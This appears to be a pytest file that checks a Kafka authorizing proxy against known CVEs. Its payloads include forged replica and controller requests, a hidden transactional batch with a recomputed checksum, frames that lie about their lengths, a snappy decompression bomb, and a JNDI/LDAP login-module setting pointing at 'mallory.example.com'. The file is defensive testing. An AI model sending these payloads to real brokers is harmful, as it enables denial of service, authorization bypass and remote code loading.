"""Attacks within requests: forged roles, hidden flags, lengths that lie, exploding records, settings that run code."""

from __future__ import annotations

import socket
import struct
from collections.abc import Callable
from contextlib import ExitStack
from pathlib import Path
from typing import Any

import pytest
from kio.schema.errors import ErrorCode

from protocol.apis import ApiKey
from proxy.embedded import KafkaCluster
from proxy.embedded.network import LOOPBACK
from tests.cves.support import most_memory
from tests.integration.conftest import make_topic
from tests.integration.door import Door
from tests.integration.wire import Wire, fetch_values, produce_values, record_batch, wire
from tests.session.test_fetching import errors, fetch

pytestmark = pytest.mark.kafka

Name = Callable[[str], str]
MIB = 1024 * 1024
TAF = ErrorCode.topic_authorization_failed
XAF = ErrorCode.transactional_id_authorization_failed


def end_of(kafka: KafkaCluster, topic: str, partition: int = 0) -> int:
    """The number of records in a partition."""
    port = int(kafka.bootstrap_servers.rpartition(":")[2])
    one = {"partition_index": partition, "timestamp": -1}
    with Wire(port) as straight:
        answer = straight.ask(ApiKey.LIST_OFFSETS, 1, replica_id=-1, topics=[{"name": topic, "partitions": [one]}])
    offset: int = answer.topics[0].partitions[0].offset
    return offset


def test_cve_2018_1288_nobody_fetches_as_a_replica(door: Door, kafka: KafkaCluster, topic: str) -> None:
    """In no version, not even who may do everything; the broker behind, of any age, is not asked."""
    with wire(door, "admin") as admin:
        admin.ask(ApiKey.PRODUCE, 3, **produce_values({topic: b"x"}))
        versions = admin.versions(ApiKey.FETCH)
        ids = admin.ask(ApiKey.METADATA, 10, topics=[{"name": topic}]) if versions[-1] >= 13 else None
        for version in versions:
            key = ids.topics[0].topic_id if ids is not None and version >= 13 else topic
            assert errors(admin.ask(ApiKey.FETCH, version, fetch(version, key, replica=1))) == {key: [TAF]}
            assert admin.answer_bytes.find(b"\x00\x00\x00\x01x") < 0
    assert end_of(kafka, topic) == 1


@pytest.mark.parametrize("api_key", [4, 5, 6, 7])
def test_cve_2018_1288_nobody_speaks_as_a_controller(door: Door, api_key: int) -> None:
    """LeaderAndIsr, StopReplica, UpdateMetadata, ControlledShutdown."""
    with wire(door, "admin") as admin:
        body = struct.pack(">hhih", api_key, 0, 1, -1) + bytes(32)
        admin.send_bytes(struct.pack(">i", len(body)) + body)
        assert admin.is_closed()


def produce(*partitions: bytes, topic: str) -> dict[str, Any]:
    data = [{"index": index, "records": records} for index, records in enumerate(partitions)]
    named = [{"name": topic, "partition_data": data}]
    return produce_values({}) | {"topic_data": named, "transactional_id": "somebodys"}


def transactional(records: bytes) -> bytes:
    """The same batch with the transactional flag, and a right checksum, without which a broker would not look at it."""
    flagged = bytearray(records)
    flagged[22] |= 0x10
    struct.pack_into(">qh", flagged, 43, 7, 0)
    flagged[17:21] = struct.pack(">I", crc32c(bytes(flagged[21:])))
    return bytes(flagged)


def crc32c(data: bytes) -> int:
    """Castagnoli's checksum, bit by bit."""
    crc = 0xFFFFFFFF
    for byte in data:
        crc ^= byte
        for _ in range(8):
            crc = (crc >> 1) ^ (0x82F63B78 if crc & 1 else 0)
    return crc ^ 0xFFFFFFFF


def test_cve_2018_17196_a_transactional_batch_is_found_behind_others(
    door: Door, kafka: KafkaCluster, unique_name: Name
) -> None:
    """And before them, of partitions and of topics: bob may write to c-*, but not in a transaction."""
    first, second = (make_topic(kafka, unique_name("c"), partitions=2) for _ in range(2))
    fine, hidden = record_batch(b"x"), transactional(record_batch(b"y"))
    hiding_places = []
    for one, other in ((fine, hidden), (hidden, fine)):
        of_two_topics = produce(one, topic=first)
        of_two_topics["topic_data"] += produce(other, topic=second)["topic_data"]
        hiding_places += [produce(one, other, topic=first), of_two_topics]
    with wire(door, "bob") as bob:
        for version in bob.versions(ApiKey.PRODUCE):
            if not 3 <= version <= 12:
                continue
            for values in hiding_places:
                answer = bob.ask(ApiKey.PRODUCE, version, **values)
                assert {p.error_code for t in answer.responses for p in t.partition_responses} == {XAF}
    assert [end_of(kafka, name, part) for name in (first, second) for part in (0, 1)] == [0] * 4
    door.expect_denial(principal="User:bob", resource_type="TransactionalId")


def test_cve_2018_17196_nor_is_a_second_batch_of_the_same_partition_stored(
    door: Door, kafka: KafkaCluster, unique_name: Name
) -> None:
    topic = make_topic(kafka, unique_name("c"))
    both = record_batch(b"x") + transactional(record_batch(b"y"))
    with wire(door, "bob") as bob:
        for version in bob.versions(ApiKey.PRODUCE):
            if 3 <= version <= 12:
                bob.send(ApiKey.PRODUCE, version, **produce(both, topic=topic))
                try:
                    _, answer = bob.receive(ApiKey.PRODUCE, version)
                except ConnectionError:
                    break
                assert answer.responses[0].partition_responses[0].error_code != ErrorCode.none
    assert end_of(kafka, topic) == 0


HUGE = 0x7FFFFFFF
LIARS = {
    "a frame of 2 GiB": struct.pack(">i", HUGE),
    "a frame of 100 MiB": struct.pack(">ihhih", 100 * MIB, 18, 0, 1, -1),
    "SaslAuthenticate with a token of 2 GiB": struct.pack(">ihhihi", 14, 36, 0, 1, -1, HUGE),
    "SaslHandshake with a name of 32 KiB": struct.pack(">ihhihh", 12, 17, 1, 1, -1, 0x7FFF),
    "a client id of 32 KiB": struct.pack(">ihhih", 10, 18, 0, 1, 0x7FFF),
    "ApiVersions with names of 256 MiB": struct.pack(">ihhih", 15, 18, 3, 1, -1) + b"\0\xff\xff\xff\x7f",
    "Metadata of 2,147,483,647 topics": struct.pack(">ihhihi", 14, 3, 1, 1, -1, HUGE),
    "a first token of Kerberos of 2 GiB": struct.pack(">iBB", HUGE, 0x60, 0x82),
}


def test_cve_2022_34917_strangers_cost_no_memory(door: Door) -> None:
    """A thousand of them name a length each and send no more, or not what they named."""
    with wire(door, "alice") as alice:
        assert alice.ask(ApiKey.METADATA, 1, topics=None).brokers
        before = most_memory(door.process)
        for _ in range(5):
            with ExitStack() as open_ones:
                for lie in LIARS.values():
                    for _ in range(25):
                        stranger = socket.create_connection((LOOPBACK, door.ports["sasl_plaintext"]))
                        open_ones.callback(stranger.close)
                        stranger.sendall(lie)
                assert alice.ask(ApiKey.METADATA, 1, topics=None).brokers
        assert most_memory(door.process) - before < 32 * MIB


@pytest.mark.parametrize("lie", LIARS.values(), ids=LIARS)
def test_cve_2022_34917_who_lies_about_a_length_is_closed(door: Door, lie: bytes) -> None:
    """As soon as what was named for the frame is there, or could not be; and nothing of it is served."""
    with wire(door, None) as stranger:
        stranger.give_up_after(10)  # who is silent is closed in any case, but later
        stranger.send_bytes(lie + bytes(64))
        assert stranger.is_closed()


SNAPPY = 2
XERIAL = b"\x82SNAPPY\0" + struct.pack(">ii", 1, 1)


def bomb(length: int) -> bytes:
    """A batch of one record that says it is compressed by snappy, in one chunk of so many bytes."""
    records = XERIAL + struct.pack(">i", length) + b"x"
    whole = bytearray(record_batch(b"x")[:61] + records)
    struct.pack_into(">i", whole, 8, len(whole) - 12)
    whole[22] = SNAPPY
    whole[17:21] = struct.pack(">I", crc32c(bytes(whole[21:])))
    return bytes(whole)


def test_cve_2023_34455_a_bomb_is_never_unpacked_here(door: Door, topic: str) -> None:
    """It goes no further than its sender may write, and costs the doorkeeper nothing if it may."""
    with wire(door, "alice") as alice, wire(door, "bob") as bob:
        values = produce(bomb(16 * MIB), topic=topic)
        assert alice.ask(ApiKey.METADATA, 1, topics=None).brokers
        before = most_memory(door.process)
        for _ in range(20):
            refused = bob.ask(ApiKey.PRODUCE, 3, **values).responses[0].partition_responses[0]
            assert refused.error_code == TAF
            told = alice.ask(ApiKey.PRODUCE, 3, **values).responses[0].partition_responses[0]
            assert told.error_code not in (ErrorCode.none, TAF), "the broker itself has looked into it"
        assert most_memory(door.process) - before < 16 * MIB
    door.expect_denial(principal="User:bob", operation="Write", resource_name=topic)


JAAS = "listener.name.plain.plain.sasl.jaas.config"
CODE = 'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://mallory.example.com/x";'


@pytest.mark.parametrize("cve", ["CVE-2023-25194", "CVE-2025-27818", "CVE-2025-27819"])
@pytest.mark.parametrize("api_key", [ApiKey.ALTER_CONFIGS, ApiKey.INCREMENTAL_ALTER_CONFIGS])
def test_cve_2023_25194_cve_2025_27818_cve_2025_27819_settings_of_brokers_are_not_everybodys(
    door: Door, api_key: ApiKey, cve: str
) -> None:
    """Login modules that load code from elsewhere: JNDI, LDAP, and what there will be."""
    module = CODE.replace("JndiLoginModule", "LdapLoginModule") if cve == "CVE-2025-27818" else CODE
    with wire(door, "alice") as alice:
        for version in alice.versions(api_key):
            setting = {"name": JAAS, "value": module, "config_operation": 0}
            resource = {"resource_type": 4, "resource_name": "1", "configs": [setting]}
            answer = alice.ask(api_key, version, resources=[resource], validate_only=False)
            assert answer.responses[0].error_code == ErrorCode.cluster_authorization_failed
    if api_key is ApiKey.ALTER_CONFIGS:
        door.expect_denial(principal="User:alice", operation="AlterConfigs", resource_type="Cluster")


def test_cve_2026_35554_no_batch_lands_in_another_topic(door: Door, kafka: KafkaCluster, unique_name: Name) -> None:
    """Hundreds on their way at once, cut anywhere, some of them denied in part."""
    mine, also_mine, foreign = (make_topic(kafka, unique_name(kind)) for kind in ("a", "a", "c"))
    with wire(door, "alice") as alice:
        values = [
            produce_values({name: name.encode() for name in names})
            for names in ((mine,), (also_mine, foreign), (foreign, mine), (also_mine,))
        ]
        for turn in range(50):
            for each in values:
                alice.send(ApiKey.PRODUCE, 3, **each)
            if turn % 10 == 9:
                for _ in range(40):
                    alice.receive(ApiKey.PRODUCE, 3)
    assert [end_of(kafka, name) for name in (mine, also_mine, foreign)] == [100, 100, 0]
    with wire(door, "admin") as admin:
        for name, other in ((mine, also_mine), (also_mine, mine)):
            admin.ask(ApiKey.FETCH, 4, **fetch_values(name))
            assert name.encode() in admin.answer_bytes
            assert other.encode() not in admin.answer_bytes.replace(name.encode(), b"")


def test_cve_2024_12254_who_does_not_read_exhausts_no_memory(
    door: Door, kafka: KafkaCluster, unique_name: Name
) -> None:
    """20 clients ask for 400 MB and wait; then they read, and all of it comes."""
    topic = make_topic(kafka, unique_name("a"))
    with ExitStack() as stack:
        admin = stack.enter_context(wire(door, "admin"))
        admin.ask(ApiKey.PRODUCE, 3, **produce_values({topic: bytes(900_000)}))
        slow = [stack.enter_context(wire(door, "alice")) for _ in range(20)]
        assert admin.ask(ApiKey.FETCH, 4, **fetch_values(topic))
        before = most_memory(door.process)
        for client in slow:
            for _ in range(20):
                client.send(ApiKey.FETCH, 4, **fetch_values(topic))
        for _ in range(20):
            assert admin.ask(ApiKey.FETCH, 4, **fetch_values(topic))
        for client in slow:
            for _ in range(20):
                _, answer = client.receive(ApiKey.FETCH, 4)
                assert answer.responses[0].partitions[0].error_code == ErrorCode.none
        assert most_memory(door.process) - before < 64 * MIB


def test_cve_2024_12254_the_call_that_forgets_back_pressure_is_not_used() -> None:
    root = Path(__file__).parents[2]
    sources = [path for folder in ("proxy", "protocol") for path in (root / folder).rglob("*.py")]
    assert [path for path in sources if ".writelines(" in path.read_text()] == []
